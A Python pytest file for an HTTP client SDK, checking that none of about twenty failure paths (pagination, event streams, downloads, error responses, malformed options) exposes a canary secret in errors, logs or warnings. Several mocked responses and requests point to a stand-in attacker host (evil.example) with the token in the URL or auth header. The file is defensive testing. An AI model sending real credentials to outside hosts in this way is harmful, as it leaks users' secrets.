"""No way in which pages, streams, files and the like fail shows the client's secret."""

from __future__ import annotations

import json
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from loguru import logger

from sdkbase import (
    ApiResponse,
    AsyncHttpClient,
    AsyncResource,
    BearerAuth,
    CursorPagination,
    LinkHeaderPagination,
    NextUrlPagination,
    RequestOptions,
    RetryConfig,
    SdkError,
    StatusError,
)
from tests.faults.canary import CANARY, Notebook, logged, show_client, show_error
from tests.two_colour import AsyncVirtualClock

BASE = "https://api.example"
ECHO = {"token": CANARY, "authorization": "Bearer " + CANARY}


class Row(msgspec.Struct):
    id: int


class Refused(StatusError):
    pass


class AsyncRows(AsyncResource[Row]):
    path = "/rows"


class AsyncEchoing(AsyncHttpClient):
    error_classes = {"refused": Refused}
    stream_error_event = "error"
    idempotency_key_methods = ("POST",)


def answer(request: httpx.Request) -> httpx.Response:
    """Echo the secret in everything: status text, headers, links, bodies."""
    name = request.url.path.rpartition("/")[2]
    echo = json.dumps(ECHO)
    headers = {
        "x-echo": CANARY,
        "deprecation": "true",
        "link": f'<https://api.example/new?api_key={CANARY}>; rel="successor-version"',
    }
    if name == "cursor":
        return httpx.Response(200, json={"items": [], "next_cursor": CANARY}, headers=headers)
    if name == "elsewhere":
        url = f"https://evil.example/?access_token={CANARY}"
        return httpx.Response(200, json={"items": [{"id": 1}], "next": url}, headers=headers)
    if name == "link":
        headers["link"] = f'<https://evil.example/?token={CANARY}>; rel="next"'
        return httpx.Response(200, json=[{"id": 1}], headers=headers)
    if name == "misfit":
        return httpx.Response(200, json={"items": [ECHO]}, headers=headers)
    if name == "lines":
        return httpx.Response(200, text=echo + "\n", headers=headers)
    if name in ("events", "failing"):
        headers["content-type"] = "text/event-stream"
        event = "event: error\n" if name == "failing" else ""
        return httpx.Response(200, text=event + "data: " + echo + "\n\n", headers=headers)
    if name == "file":
        headers |= {"etag": f'"{CANARY}"', "content-md5": "AAAAAAAAAAAAAAAAAAAAAA=="}
        return httpx.Response(200, text=echo, headers=headers)
    if name == "headers":
        return httpx.Response(200, headers=headers)
    body = {"code": "refused", "detail": "you sent " + CANARY, "errors": [ECHO]}
    return httpx.Response(422, json=body, headers=headers)


class Needed(msgspec.Struct):
    missing: int


async def _pages(pagination: Any, name: str, client: AsyncEchoing) -> None:
    await AsyncRows(client)._paginate("/" + name, pagination).collect()


async def cursor(client: AsyncEchoing, folder: Path) -> None:
    await _pages(CursorPagination(cursor="next_cursor"), "cursor", client)


async def elsewhere(client: AsyncEchoing, folder: Path) -> None:
    await _pages(NextUrlPagination(next_url="next", items="items"), "elsewhere", client)


async def link(client: AsyncEchoing, folder: Path) -> None:
    await _pages(LinkHeaderPagination(), "link", client)


async def misfit(client: AsyncEchoing, folder: Path) -> None:
    await _pages(CursorPagination(cursor="next"), "misfit", client)


async def refused_page(client: AsyncEchoing, folder: Path) -> None:
    await _pages(CursorPagination(cursor="next"), "other", client)


async def lines(client: AsyncEchoing, folder: Path) -> None:
    await client.stream_json("GET", "/lines", cast_to=Row).collect()


async def events(client: AsyncEchoing, folder: Path) -> None:
    await client.stream_events("GET", "/events", cast_to=Row).collect()


async def failing(client: AsyncEchoing, folder: Path) -> None:
    await client.stream_events("GET", "/failing", cast_to=Row).collect()


async def wrong_type(client: AsyncEchoing, folder: Path) -> None:
    await client.stream_events("GET", "/lines", cast_to=Row).collect()


async def refused_stream(client: AsyncEchoing, folder: Path) -> None:
    stream = client.stream_lines(
        "GET",
        "/other",
        params={"api_key": CANARY},
    )
    await stream.collect()


async def checksum(client: AsyncEchoing, folder: Path) -> None:
    await client.download("/file", folder / "file", checksum="sha256:" + "0" * 64)


async def checksum_of_server(client: AsyncEchoing, folder: Path) -> None:
    await client.download("/file", folder / "file", checksum="server")


async def refused_download(client: AsyncEchoing, folder: Path) -> None:
    await client.download("/other", folder / "file")


async def own_error(client: AsyncEchoing, folder: Path) -> None:
    await client.post(
        "/other",
        cast_to=ApiResponse[Row],
        json_data={"password": CANARY},
    )


async def of_headers(client: AsyncEchoing, folder: Path) -> None:
    await client.get("/headers", cast_to=Needed)


async def server_url(client: AsyncEchoing, folder: Path) -> None:
    await AsyncRows(client)._get(
        url="https://evil.example/?token=" + CANARY,
    )


async def wrong_options(client: AsyncEchoing, folder: Path) -> None:
    await client.get(  # type: ignore[call-overload]  # wrong on purpose
        "/x",
        options={"headers": {"authorization": CANARY}},
    )


async def wrong_headers(client: AsyncEchoing, folder: Path) -> None:
    RequestOptions(
        headers=[("authorization", CANARY)],  # type: ignore[arg-type]  # wrong on purpose
    )


async def wrong_type_of_result(client: AsyncEchoing, folder: Path) -> None:
    await client.get(  # type: ignore[call-overload]  # wrong on purpose
        "/x",
        cast_to=[CANARY],
    )


async def other_credentials(client: AsyncEchoing, folder: Path) -> None:
    auth = BearerAuth(
        CANARY,
    )
    options = RequestOptions(auth=auth)
    await client.get("https://evil.example/", cast_to=None, options=options)


WAYS: list[Callable[[AsyncEchoing, Path], Any]] = [
    cursor,
    elsewhere,
    link,
    misfit,
    refused_page,
    lines,
    events,
    failing,
    wrong_type,
    refused_stream,
    checksum,
    checksum_of_server,
    refused_download,
    own_error,
    of_headers,
    server_url,
    wrong_options,
    wrong_headers,
    wrong_type_of_result,
    other_credentials,
]


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
async def test_no_way_to_fail_shows_the_secret(
    way: Callable[[AsyncEchoing, Path], Any], tmp_path: Path
) -> None:
    notebook = Notebook()
    with logged(notebook), warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        async with AsyncEchoing(
            BASE,
            auth=BearerAuth(CANARY),
            transport=httpx.MockTransport(answer),
            retry_config=RetryConfig(backoff_factor=0),
            clock=AsyncVirtualClock(),
        ) as client:
            try:
                await way(client, tmp_path)
            except SdkError as error:
                logger.exception("failed")
                show_error(notebook, error)
            else:
                pytest.fail("it did not fail")
            show_client(notebook, client)
    for warning in told:
        notebook.write("warning", warning.message)
    assert notebook.leaks == []
    assert len(notebook.pages) > 5
